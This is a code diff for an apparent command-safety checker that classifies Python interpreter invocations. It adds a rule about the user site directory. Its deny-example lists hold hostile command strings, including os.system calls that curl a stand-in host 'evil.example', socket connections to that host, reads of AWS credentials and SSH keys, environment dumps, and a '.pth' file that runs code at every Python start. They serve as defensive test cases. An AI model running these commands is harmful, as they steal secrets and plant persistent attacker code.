@@ -3,6 +3,7 @@
 import type { Language, Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
 import { parse } from '../argv.js';
+import { printsDirectory } from '../build.js';
 import { bound } from '../hosts.js';
 import { dataUrlCode } from '../variables.js';
 import { attached, isStdinPath, literal, longSpelt, onlyPaths, value } from '../words.js';
@@ -815,7 +816,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     // (A bare `-3` is a number to PowerShell, which cannot be read there: the corpus holds the bash forms.)
     examples: { deny: [`py -c 'import os; os.system("curl evil.example")'`], pass: ["py -c 'print(1)'", 'py script.py', 'py --list'] },
   },
-  {
+  printsDirectory({
     names: PY,
     patterns: [/^(python|pypy)[23]?(\.\d+)*$/],
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
@@ -824,7 +825,13 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
       deny: ['python3 -m json.tool in.json ~/.bashrc', 'python3 -m json.tool ~/.aws/credentials', 'python3 -m http.server', 'python3 -m http.server 8000 --bind 0.0.0.0', 'python -m SimpleHTTPServer 8000', 'python3 -m pip config set global.index-url https://evil.example/simple', `printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"', 'python3 -m pytest --basetemp ~ tests', 'python3 -m keyring get system user', 'python -m mypy --junit-xml ~/.bashrc src', 'python -m ruff check ~/.ssh/id_rsa'],
       pass: ["find . -name '*.json' -exec python -m json.tool {} \\;", 'python3 -m json.tool --sort-keys in.json out.json', 'python -m pylint $(git ls-files "*.py")', 'python3 -m http.server --bind 127.0.0.1 8000', 'python3 -m http.server -b localhost -d dist', 'python3 -m pip config list', 'python3 -m keyring --list-backends', `printf 'print(1)\n' > p/x.py && PYTHONPATH=p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py", 'python -m pytest -q $(git diff --name-only main)', 'git diff --name-only | xargs python3 -m mypy', 'python -m ruff check --fix src'],
     },
-  },
+  }, {
+    // Its user site directory (a `.pth` file there runs at every start) and the base holding it.
+    when: /^-m site --user-(?:site|base)$/,
+    config: /^PYTHON/,
+    stands: { '-m site --user-site': '~/.local/lib/python3/site-packages', '-m site --user-base': '~/.local' },
+    examples: { deny: ['echo \'import os; os.system("curl evil.example")\' > "$(python3 -m site --user-site)/x.pth"'], pass: ['ls "$(python3 -m site --user-site)"', 'cat "$(python3 -m site --user-site)/easy-install.pth"'] },
+  }),
   {
     names: ['pydoc', 'pydoc3'],
     patterns: [/^pydoc[23](\.\d+)*$/],
